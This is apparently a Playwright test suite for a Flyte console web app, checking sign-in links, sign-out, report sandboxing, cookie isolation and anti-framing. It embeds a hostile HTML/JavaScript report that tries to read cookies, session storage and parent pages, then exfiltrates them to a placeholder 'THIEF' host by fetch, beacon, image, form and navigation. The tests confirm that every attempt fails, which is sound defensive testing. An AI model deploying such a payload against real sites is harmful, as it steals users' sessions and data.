"""Into the console and out of it, and what strangers get: a hostile report, somebody else's server."""

from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

from testkit.console_process import ConsoleProcess
from testkit.shop import Shop, path_of
from testkit.thief import thief

HOSTILE = """<!doctype html><h1>Nothing to see</h1><script>
const tried = {};
const attempt = async (name, way) => {
  try { tried[name] = `reached: ${await way()}`; } catch (error) { tried[name] = `refused: ${error.name}`; }
};
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("store", () => localStorage.getItem("flyte-session"));
  await attempt("page", () => parent.document.body.textContent);
  await attempt("top", () => top.document.title);
  await attempt("api", async () => (await fetch("/api/v1/projects")).status);
  await attempt("own api", async () => (await fetch(location.href.replace(/report.*/, "logs"))).status);
  await attempt("thief", async () => (await fetch("THIEF/fetched", {mode: "no-cors"})).type);
  await attempt("request", () => new Promise((done, failed) => {
    const request = new XMLHttpRequest();
    request.onload = () => done(request.status);
    request.onerror = () => failed(new Error());
    request.open("GET", "/api/v1/projects");
    request.send();
  }));
  await attempt("window", () => { if (!open("THIEF/opened")) throw new Error(); return "opened"; });
  await attempt("beacon", () => navigator.sendBeacon("THIEF/beacon", location.href));
  await attempt("worker", () => navigator.serviceWorker.register("/api/v1/about"));
  new Image().src = "THIEF/image?" + location.href;
  const form = document.body.appendChild(document.createElement("form"));
  form.action = "THIEF/form";
  form.submit();
  try { top.location = "THIEF/top"; } catch { }
  document.body.append(Object.assign(document.createElement("pre"), {textContent: JSON.stringify(tried)}));
})();
</script>"""
REFUSED = {"cookie", "store", "page", "top", "api", "own api", "thief", "request", "window", "worker"}


def test_who_is_not_signed_in_is_told_what_to_type_and_comes_in(
    browser: Browser, console: ConsoleProcess, shop: Shop
) -> None:
    with browser.new_context(base_url=console.url) as context:
        waiting, other = context.new_page(), context.new_page()
        waiting.goto(path_of("runs", "good"))
        expect(waiting.get_by_text("You are not signed in")).to_be_visible()
        expect(waiting.get_by_text("flyte console", exact=True)).to_be_visible()

        address = console.way_in()
        other.goto(address)
        expect(other).to_have_url(f"{console.url}/projects/shop/domains/development/runs")
        expect(other.get_by_role("link", name="good", exact=True)).to_be_visible()
        expect(waiting.get_by_role("heading", name="good")).to_be_visible()
        assert address.partition("#")[2] not in other.evaluate(
            "location.href + JSON.stringify(history.state)"
        )

        other.goto(address)  # as from the history: it was used
        expect(other.get_by_text("used already")).to_be_visible()
        other.goto(path_of("runs"))
        other.get_by_role("button", name="Sign out").click()
        for page in (other, waiting):
            expect(page.get_by_text("You are not signed in")).to_be_visible()
        other.reload()
        expect(other.get_by_text("You are not signed in")).to_be_visible()


def test_a_hostile_report_reaches_nothing(visitor: BrowserContext, shop: Shop) -> None:
    page = visitor.new_page()
    with thief() as found:

        def report(route: Route) -> None:
            answer = route.fetch()
            assert "sandbox" in answer.headers["content-security-policy"]
            route.fulfill(response=answer, body=HOSTILE.replace("THIEF", found.url))

        visitor.route("**/report?**", report)
        page.goto(path_of("runs", "good") + "?tab=report")
        frame = page.frame_locator("iframe[title='Report of the action']")
        tried = frame.locator("pre").evaluate("(pre) => JSON.parse(pre.textContent)")
        assert {name for name, came in tried.items() if came.startswith("refused")} >= REFUSED, tried
        frame.locator("pre").evaluate(
            "(_, url) => { location.href = `${url}/left?${location.href}`; }", found.url
        )
        expect(frame.get_by_text("Nothing to see")).to_have_count(0)  # it has tried, and is nowhere
        assert not found.heard
        assert page.url.startswith("http://127.0.0.1") and path_of("runs", "good") in page.url
        expect(page.get_by_role("heading", name="good")).to_be_visible()
        assert len(visitor.pages) == 1


def test_a_report_that_is_opened_by_itself_knows_nobody(visitor: BrowserContext, shop: Shop) -> None:
    page = visitor.new_page()
    page.goto(path_of("runs", "good") + "?tab=report")
    address = page.locator("iframe[title='Report of the action']").get_attribute("src")
    assert address is not None
    page.goto(address)
    expect(page.get_by_role("heading", name="Ten items")).to_be_visible()
    assert page.evaluate("origin") == "null"


def test_another_server_on_this_machine_gets_no_cookie(visitor: BrowserContext) -> None:
    page = visitor.new_page()
    with thief() as found:
        for path in ("/", "/api/v1/projects", "/api/at/x/v1/projects", "/login"):
            page.goto(found.url + path)
        assert [cookies for _, cookies in found.heard if cookies] == []
        assert {"/", "/login"} <= {path for path, _ in found.heard}


def test_another_page_cannot_show_the_console(visitor: BrowserContext, console: ConsoleProcess) -> None:
    page = visitor.new_page()
    with thief() as found:
        page.goto(found.url)
        framed(page, console.url)
        expect(page.frame_locator("iframe").get_by_text("Flytejet")).to_have_count(0)


def framed(page: Page, address: str) -> None:
    """Put an address into a frame of a page, and wait until the browser has decided."""
    page.evaluate(
        """(address) => new Promise((done) => {
            const frame = document.createElement("iframe");
            frame.onload = done;
            frame.src = address;
            document.body.append(frame);
        })""",
        address,
    )
